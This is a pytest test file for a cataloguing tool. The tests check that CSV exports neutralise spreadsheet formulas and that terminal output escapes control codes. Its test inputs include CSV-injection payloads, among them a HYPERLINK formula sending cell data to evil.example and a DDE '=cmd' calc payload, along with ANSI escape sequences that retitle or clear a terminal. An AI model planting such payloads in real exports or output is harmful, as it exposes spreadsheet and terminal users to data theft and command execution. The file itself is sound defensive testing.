"""Catalogue text written by others (issue 15 items 2 and 6): CSV exports cannot carry live
spreadsheet formulas (OWASP CSV injection), a decided sheet never loses a row on the way back, and the
terminal shows such text as plain text, control characters escaped."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest
from click.testing import CliRunner

from glamwiki.cells import neutralise
from glamwiki.cli import cli as cli_app
from glamwiki.errors import ConfigError
from glamwiki.linking.project_flow import export_queue, import_decisions
from glamwiki.project import Project
from glamwiki.store import Store
from glamwiki.store import linking as db
from glamwiki.terminal import plain, visible

from .intake.helpers import ROWS, write_csv, write_mapping

FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+SUM(A1)", "-2+3", "@SUM(1)", "\tx", "\rx"]


@pytest.mark.parametrize("value", FORMULAS)
def test_neutralise_prefixes_formulas(value: str) -> None:
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Monet", "1850", "", "'quoted", "a=b", "Ann-Lee"])
def test_neutralise_leaves_text_alone(value: str) -> None:
    assert neutralise(value) == value


def _review_row(store: Store, person_id: str, name: str) -> None:
    with store.transaction():
        run = db.start_run(store, "m", "wikidata", {}, {})
        evidence = {"source": {"name": name, "dates": "1840-1926"}, "candidate": {"name": name, "dates": "1840-1926"},
                    "features": {"name": "exact"}, "match_weight": 3.0, "note": "\x1b]0;owned\x07"}  # fmt: skip
        db.save_matches(store, run, "m", "wikidata", [{"person_id": person_id, "authority_id": "Q296",
                        "qid": "Q296", "probability": 0.5, "decision": "review", "evidence": evidence}])  # fmt: skip


def test_export_records_csv_has_no_live_formula(cli: CliRunner, project: Project, tmp_path: Path) -> None:
    rows = [list(r) for r in ROWS]
    rows[0][0], rows[0][1], rows[1][1], rows[2][8] = "=1+1", FORMULAS[1], "@SUM(1)", "-2+3"
    path = write_csv(tmp_path / "export.csv", rows)
    assert cli.invoke(cli_app, ["ingest", str(path), "--mapping", str(write_mapping(tmp_path))]).exit_code == 0
    out = tmp_path / "records.csv"
    assert cli.invoke(cli_app, ["export", "records", "--format", "csv", "-o", str(out)]).exit_code == 0
    cells = [c for row in csv.reader(out.open(encoding="utf-8")) for c in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=1+1" in cells and "'" + FORMULAS[1] in cells and "'@SUM(1)" in cells


def test_link_review_csv_round_trip_keeps_every_row(store: Store, tmp_path: Path) -> None:
    _review_row(store, "=1+1", '=HYPERLINK("http://evil.example")')
    _review_row(store, "P2", "Mary")
    path = tmp_path / "queue.csv"
    assert export_queue(store, path) == 2
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    assert rows[0]["person_id"] == "'=1+1" and rows[0]["source_name"].startswith("'=")
    for r in rows:
        r["verdict"] = "accept"
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    assert import_decisions(store, path).applied == 2
    assert {d["person_id"] for d in db.decisions(store)} == {"=1+1", "P2"}  # the id as it was, not lost


def test_an_unreadable_decided_row_is_reported_not_dropped(store: Store, tmp_path: Path) -> None:
    _review_row(store, "P1", "Mary")
    path = tmp_path / "queue.csv"
    export_queue(store, path)
    rows = list(csv.DictReader(path.open(encoding="utf-8")))
    rows[0]["verdict"], rows[0]["person_id"] = "accept", ""
    with path.open("w", encoding="utf-8", newline="") as f:
        w = csv.DictWriter(f, fieldnames=list(rows[0]))
        w.writeheader()
        w.writerows(rows)
    with pytest.raises(ConfigError, match="row 2: no person_id"):
        import_decisions(store, path)
    assert db.decisions(store) == []


def test_link_review_prints_catalogue_text_as_plain_text(cli: CliRunner, store: Store) -> None:
    _review_row(store, "P1", "[/] Claude Monet")
    _review_row(store, "P2", "[link=http://evil.example]Click[/link] \x1b[2J\x1b]0;title\x07")
    result = cli.invoke(cli_app, ["link", "review"], env={"COLUMNS": "300"})
    assert result.exit_code == 0, result.output
    assert "[/] Claude Monet" in result.output and "[link=http://evil.example]Click[/link]" in result.output
    assert "\x1b" not in result.output and "\\x1b[2J" in result.output and "\\x07" in result.output


def test_visible_escapes_controls_and_keeps_joiners() -> None:
    assert visible("a\x1b[31mb\u202ec") == "a\\x1b[31mb\\u202ec"
    assert visible("می\u200cخواهم") == "می\u200cخواهم"  # ZWNJ is part of Persian spelling
    assert plain("[bold]x[/]") == "\\[bold]x\\[/]"


def test_rights_explain_shows_escape_codes_escaped(cli: CliRunner, tmp_path: Path) -> None:
    rows = [list(r) for r in ROWS]
    rows[0][1] = "Harbour \x1b]0;owned\x07\x1b[2J[link=http://evil.example]x[/link]"
    path = write_csv(tmp_path / "export.csv", rows)
    assert cli.invoke(cli_app, ["ingest", str(path), "--mapping", str(write_mapping(tmp_path))]).exit_code == 0
    result = cli.invoke(cli_app, ["rights", "explain", "M.1"])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "\\x1b]0;owned\\x07" in result.output and "[link=http://evil.example]" in result.output


def test_export_errors_csv_has_no_live_formula(cli: CliRunner, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "export.csv")
    text = path.read_text(encoding="utf-8").splitlines()
    text.insert(2, "=cmd|' /C calc'!A0,only three")  # a malformed row: its text is quoted in the error
    path.write_text("\n".join(text) + "\n", encoding="utf-8")
    assert cli.invoke(cli_app, ["ingest", str(path), "--mapping", str(write_mapping(tmp_path))]).exit_code == 3
    out = tmp_path / "errors.csv"
    assert cli.invoke(cli_app, ["export", "errors", "-o", str(out)]).exit_code == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8")))
    assert rows and all(not v.startswith(("=", "+", "-", "@")) for r in rows for v in r.values())
    assert any(r["value"].startswith("'=cmd") for r in rows)


def test_book_pages_prints_manifest_labels_safely(tmp_path: Path) -> None:
    import json

    labels = ["\x1b]0;owned\x07iv", '=HYPERLINK("http://evil.example")']
    canvases = [{"@id": f"c{n}", "@type": "sc:Canvas", "label": label} for n, label in enumerate(labels)]
    manifest = tmp_path / "m.json"
    manifest.write_text(json.dumps({"@type": "sc:Manifest", "@id": "m", "label": "B",
                                    "sequences": [{"canvases": canvases}]}))  # fmt: skip
    result = CliRunner().invoke(cli_app, ["book", "pages", str(manifest)])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\\x1b]0;owned\\x07iv" in result.output
    assert "\t\"'=HYPERLINK" in result.output  # quoted by csv, neutralised inside
